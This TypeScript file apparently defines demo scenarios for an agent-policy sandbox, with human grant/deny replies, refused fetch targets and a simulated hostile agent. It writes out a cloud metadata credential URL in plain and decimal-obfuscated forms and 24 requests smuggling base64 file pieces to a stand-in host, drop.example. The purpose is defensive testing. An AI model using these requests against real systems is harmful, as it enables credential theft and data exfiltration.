import "server-only";

/** What is done with a question that an agent's policy asks a person; nobody is there where it is left out. */
export type Reply = "grant" | "deny";

export interface Example {
  readonly title: string;
  /** A folder of public/examples. */
  readonly example: string;
  readonly reply?: Reply;
  /** Files of the example that are other ones in this run. */
  readonly files?: Readonly<Record<string, string>>;
  /** Pieces of its spec that are. */
  readonly spec?: readonly (readonly [from: string, to: string])[];
  /** The page is closed when there are so many records. */
  readonly cutAt?: number;
}

/** Targets that the policy of the example refuses, or asks a person about: nothing of this goes anywhere. */
const REFUSED = [
  ["another host", "GET", "https://example.com/"],
  ["the same host, another path", "GET", "https://api.github.com/user"],
  ["the address where clouds hand out credentials", "GET", "http://169.254.169.254/latest/meta-data/"],
  ["the same address, written as one number", "GET", "http://2852039166/latest/meta-data/"],
  ["this machine itself", "GET", "http://127.0.0.1:1/"],
] as const;
const ASKED = [
  ...REFUSED,
  ["an issue, which a person is asked about", "POST", "https://api.github.com/repos/nodejs/node/issues"],
] as const;
const EXFILTRATION = Array.from(
  { length: 24 },
  (_, n) =>
    [`a piece of a file in an address, ${n + 1} of 24`, "GET", `https://drop.example/${n}/c2VjcmV0`] as const,
);

function targets(list: readonly (readonly [why: string, method: string, url: string])[]): string {
  return `${JSON.stringify(
    list.map(([why, method, url]) => ({ why, method, url })),
    null,
    2,
  )}\n`;
}

export const EXAMPLES: readonly Example[] = [
  { title: "A report that a person let out", example: "report-writer", reply: "grant" },
  { title: "A report that a person held back", example: "report-writer", reply: "deny" },
  { title: "A report about which nobody was there to ask", example: "report-writer" },
  {
    title: "A report that failed over a broken row",
    example: "report-writer",
    files: {
      "data/orders.csv": "month,region,units,cents\n2026-01,north,12,4800\n2026-01,south,many,9900\n",
    },
  },
  {
    title: "A report by an agent that may also keep copies",
    example: "report-writer",
    reply: "grant",
    spec: [['write = ["/workspace/out/**"]', 'write = ["/workspace/out/**", "/workspace/archive/**"]']],
  },
  {
    title: "An agent that asked for what its policy refuses",
    example: "web-fetcher",
    files: { "targets.json": targets(REFUSED) },
  },
  {
    title: "An agent that wanted to open an issue",
    example: "web-fetcher",
    reply: "deny",
    files: { "targets.json": targets(ASKED) },
  },
  {
    title: "An agent that tried to carry a file out",
    example: "web-fetcher",
    files: { "targets.json": targets(EXFILTRATION) },
  },
  {
    title: "A hostile agent, set back by its policy",
    example: "hostile",
    spec: [
      [
        "before_high_risk = true",
        'before_high_risk = true\nrollback_triggers = ["deny_violation_count > 5", "credential_access_attempt"]',
      ],
    ],
  },
  {
    title: "A report whose page was closed in the middle",
    example: "report-writer",
    reply: "grant",
    cutAt: 8,
  },
];
